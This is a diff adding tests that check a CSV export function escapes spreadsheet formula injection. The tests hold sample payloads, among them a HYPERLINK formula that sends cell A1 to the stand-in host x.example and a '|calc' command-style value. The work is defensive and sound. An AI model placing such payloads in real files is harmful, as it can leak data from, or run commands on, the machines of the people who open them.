@@ -13,6 +13,7 @@ import {
 import { fieldOfParam } from '../../shared/console/form/field-errors.ts';
 import { fieldPaths, matchingFields } from '../../shared/console/form/fields/field-paths.ts';
 import { pairsOfText } from '../../shared/console/form/fields/inputs/pair-text.ts';
+import { csvField } from '../../shared/console/format/csv.ts';
 import { formatRows, shownRow } from '../../shared/console/format/export.ts';
 import { secondsOfMonth } from '../../shared/console/format/time.ts';
 import { isAmountName, minorUnits, formatMoney } from '../../shared/console/format/money.ts';
@@ -148,6 +149,37 @@ test('what a form keeps has no card data', () => {
   });
   assert.deepEqual(kept, { Type: 'card', Card: {}, Items: [{ price: 'price_1' }] });
 });
+
+/** What a spreadsheet runs, and what it does not. https://owasp.org/www-community/attacks/CSV_Injection */
+const CELLS: readonly (readonly [value: unknown, safe: string, raw: string])[] = [
+  ['=1+1', "'=1+1", '=1+1'],
+  ['+1+1', "'+1+1", '+1+1'],
+  ['-1+1', "'-1+1", '-1+1'],
+  ['@SUM(A1)', "'@SUM(A1)", '@SUM(A1)'],
+  ['\t=1', "'\t=1", '"\t=1"'],
+  ['\r=1', `"'\r=1"`, '"\r=1"'],
+  ['\n=1', `"'\n=1"`, '"\n=1"'],
+  ['＝1', "'＝1", '＝1'],
+  [
+    `=HYPERLINK("https://x.example?"&A1,"b")`,
+    `"'=HYPERLINK(""https://x.example?""&A1,""b"")"`,
+    `"=HYPERLINK(""https://x.example?""&A1,""b"")"`,
+  ],
+  ['-12.50 USD|calc', "'-12.50 USD|calc", '-12.50 USD|calc'],
+  // A number, a text of one, and an amount with its currency: a spreadsheet runs no formula.
+  [-1500, '-1500', '-1500'],
+  ['-12.5', '-12.5', '-12.5'],
+  ['+4915112345678', '+4915112345678', '+4915112345678'],
+  ['-12.50 USD', '-12.50 USD', '-12.50 USD'],
+  ['a=1', 'a=1', 'a=1'],
+  [{ a: '=1' }, '"{""a"":""=1""}"', '"{""a"":""=1""}"'],
+  [null, '', ''],
+  [false, 'false', 'false'],
+];
+for (const [value, safe, raw] of CELLS)
+  test(`the field of ${JSON.stringify(value)} is no formula unless it is raw`, () => {
+    assert.deepEqual([csvField(value), csvField(value, true)], [safe, raw]);
+  });
 
 test('files quote fields and contain no formula', () => {
   const rows = [{ Id: 'a', Name: 'x, "y"', Note: '=1+1', Metadata: { a: '1' } }];
